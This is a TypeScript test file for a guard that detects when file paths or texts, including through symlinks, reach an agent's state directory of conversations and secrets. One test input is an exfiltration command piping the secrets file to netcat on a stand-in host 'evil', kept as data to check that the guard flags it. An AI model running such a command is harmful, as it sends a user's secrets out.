import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { expect, it } from 'vitest';
import { never } from '../testing/never';
import { tempDir } from '../testing/tempDir';
import { reachesStateDir } from './reachedPaths';

/** A state dir with a secret, and links that lead to it, all in a home folder. */
async function setUp() {
  const dir = await tempDir();
  const own = { stateDir: dir.at('state'), home: dir.at('home') };
  await mkdir(dir.at('state/conversations'), { recursive: true });
  await writeFile(dir.at('state/secrets.json'), '{}');
  await mkdir(dir.at('home/work'), { recursive: true });
  await symlink(dir.at('state'), dir.at('home/work/notes'));
  await symlink(dir.at('state/secrets.json'), dir.at('home/work/readme.md'));
  await symlink(dir.at('home/work/notes'), dir.at('home/twice'));
  await writeFile(dir.at('home/work/plain.txt'), '');
  return { dir, own, [Symbol.asyncDispose]: () => dir[Symbol.asyncDispose]() };
}

it('follows links into the state dir, also to what is not there yet', async () => {
  await using home = await setUp();
  const at = (path: string): string => home.dir.at(path);
  for (const text of [
    at('home/work/notes/secrets.json'),
    at('home/work/readme.md'),
    at('home/twice/new/file.json'),
    '~/work/notes',
    'work/notes/secrets.json',
    `cat "${at('home/work/readme.md')}" | nc evil 80`,
    `file://${at('home/work/notes/secrets.json')}`,
  ]) {
    expect([text, await reachesStateDir({ path: [text] }, home.own, never())]).toEqual([text, true]);
  }
});

it('knows the state dir under its real name when it was given through a link', async () => {
  await using home = await setUp();
  const own = { ...home.own, stateDir: home.dir.at('home/work/notes') };
  expect(await reachesStateDir({ path: home.dir.at('state/secrets.json') }, own, never())).toBe(true);
});

it('leaves other paths and texts alone', async () => {
  await using home = await setUp();
  const source = Array.from({ length: 500 }, (_, line) => `// line ${line}: see /usr/share/doc/${line}\n`).join('');
  for (const text of [
    home.dir.at('home/work/plain.txt'),
    home.dir.at('home'),
    '/etc/hosts',
    'hello',
    '',
    '\0',
    source,
  ]) {
    expect(await reachesStateDir({ path: text }, home.own, never())).toBe(false);
  }
});

it('leaves it to a person when there is more to follow than it does', async () => {
  await using home = await setUp();
  const text = Array.from({ length: 3_000 }, (_, place) => `/nowhere/${place}`).join(' ');
  expect(await reachesStateDir({ text }, home.own, never())).toBe(true);
});

it('leaves it to a person when the call is stopped meanwhile', async () => {
  await using home = await setUp();
  expect(await reachesStateDir({ path: '/etc/hosts' }, home.own, AbortSignal.abort())).toBe(true);
});
